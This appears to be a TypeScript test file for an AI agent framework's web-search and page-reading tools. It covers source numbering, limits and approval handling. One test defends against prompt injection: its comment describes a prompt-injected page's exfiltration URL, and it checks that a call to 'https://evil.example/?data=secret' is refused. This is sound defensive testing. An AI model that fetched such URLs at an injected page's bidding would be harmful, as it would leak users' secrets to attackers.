import { MAX_WEB_SOURCES } from '@agentforge/shared';
import { describe, expect, it } from 'vitest';
import type { ToolSet } from './ports.js';
import {
  createWebSearchTools,
  READ_PAGE_REFUSED,
  READ_PAGE_TOOL,
  WEB_SEARCH_TOOL,
  type WebSearch,
  withBuiltInTools,
} from './web-search.js';

const signal = new AbortController().signal;

function fakeWeb(results: { title: string; url: string }[]): WebSearch & { read: string[] } {
  const read: string[] = [];
  return {
    read,
    search: async () => results.map((result) => ({ ...result, description: `About ${result.title}` })),
    readPage: async (url) => {
      read.push(url);
      return { title: `Page at ${url}`, text: 'The page text.' };
    },
  };
}

describe('web search tools', () => {
  it('numbers the results as sources, once per URL, across searches and pages read', async () => {
    const web = fakeWeb([
      { title: 'A', url: 'https://a.example/' },
      { title: 'B', url: 'https://b.example/' },
    ]);
    const tools = createWebSearchTools(web);
    const first = await tools.set.call(WEB_SEARCH_TOOL, { query: 'x' }, signal);
    expect(first).toEqual({
      content: '[1] A\nhttps://a.example/\nAbout A\n\n[2] B\nhttps://b.example/\nAbout B',
      isError: false,
    });
    // The same pages found again keep their numbers; a page read keeps its result's number.
    await tools.set.call(WEB_SEARCH_TOOL, { query: 'y' }, signal);
    const page = await tools.set.call(READ_PAGE_TOOL, { url: 'https://b.example/' }, signal);
    expect(page.content).toBe('[2] Page at https://b.example/\nhttps://b.example/\n\nThe page text.');
    expect(tools.sources()).toEqual([
      { title: 'A', url: 'https://a.example/' },
      { title: 'B', url: 'https://b.example/' },
    ]);
  });

  it('goes on from the sources of a reply that paused, and keeps at most MAX_WEB_SOURCES', async () => {
    const many = Array.from({ length: MAX_WEB_SOURCES + 5 }, (_, i) => ({
      title: `R${i}`,
      url: `https://r${i}.example/`,
    }));
    const tools = createWebSearchTools(fakeWeb(many), [
      { title: 'Earlier', url: 'https://earlier.example/' },
    ]);
    const result = await tools.set.call(WEB_SEARCH_TOOL, { query: 'many' }, signal);
    expect(result.content.startsWith('[2] R0')).toBe(true);
    expect(tools.sources()).toHaveLength(MAX_WEB_SOURCES);
    expect(tools.sources()[0]?.title).toBe('Earlier');
  });

  it('refuses a call without a query or with a URL that is not http(s), reading nothing', async () => {
    const web = fakeWeb([]);
    const tools = createWebSearchTools(web);
    expect((await tools.set.call(WEB_SEARCH_TOOL, { query: ' ' }, signal)).isError).toBe(true);
    const file = await tools.set.call(READ_PAGE_TOOL, { url: ' ' }, signal);
    expect(file).toEqual({ content: 'Give the http(s) URL of a page.', isError: true });
    expect(web.read).toEqual([]);
    expect(tools.sources()).toEqual([]);
  });

  it('reads only the pages this reply’s searches returned (or the paused reply’s sources), refusing any other URL', async () => {
    const web = fakeWeb([{ title: 'A', url: 'https://a.example/' }]);
    const tools = createWebSearchTools(web, [{ title: 'Earlier', url: 'https://earlier.example/' }]);
    // Before any search, or a URL no search returned (a prompt-injected page's exfiltration URL).
    const refused = await tools.set.call(READ_PAGE_TOOL, { url: 'https://a.example/' }, signal);
    expect(refused).toEqual({ content: READ_PAGE_REFUSED, isError: true });
    await tools.set.call(WEB_SEARCH_TOOL, { query: 'x' }, signal);
    const other = await tools.set.call(READ_PAGE_TOOL, { url: 'https://evil.example/?data=secret' }, signal);
    expect(other).toEqual({ content: READ_PAGE_REFUSED, isError: true });
    expect(web.read).toEqual([]);
    expect((await tools.set.call(READ_PAGE_TOOL, { url: 'https://a.example/' }, signal)).isError).toBe(false);
    expect((await tools.set.call(READ_PAGE_TOOL, { url: 'https://earlier.example/' }, signal)).isError).toBe(
      false,
    );
    expect(web.read).toEqual(['https://a.example/', 'https://earlier.example/']);
  });

  it("sits beside a server's tools under its own names, never asking for approval", async () => {
    const server: ToolSet = {
      serverId: 's1',
      definitions: [
        { name: 'echo', inputSchema: {} },
        { name: WEB_SEARCH_TOOL, inputSchema: {} },
      ],
      call: async (name) => ({ content: `server ${name}`, isError: false }),
      needsApproval: () => true,
      serverOf: (name) => ({ serverId: 's1', tool: name }),
    };
    const web = createWebSearchTools(fakeWeb([{ title: 'A', url: 'https://a.example/' }]));
    const both = withBuiltInTools(server, web.set);
    expect(both.definitions.map((tool) => tool.name)).toEqual(['echo', WEB_SEARCH_TOOL, READ_PAGE_TOOL]);
    expect((await both.call('echo', {}, signal)).content).toBe('server echo');
    expect((await both.call(WEB_SEARCH_TOOL, { query: 'q' }, signal)).content).toContain('[1] A');
    expect(both.needsApproval?.('echo')).toBe(true);
    expect(both.needsApproval?.(WEB_SEARCH_TOOL)).toBe(false);
    expect(both.serverOf?.(READ_PAGE_TOOL)).toBeUndefined();
    expect(withBuiltInTools(undefined, web.set)).toBe(web.set);
  });
});
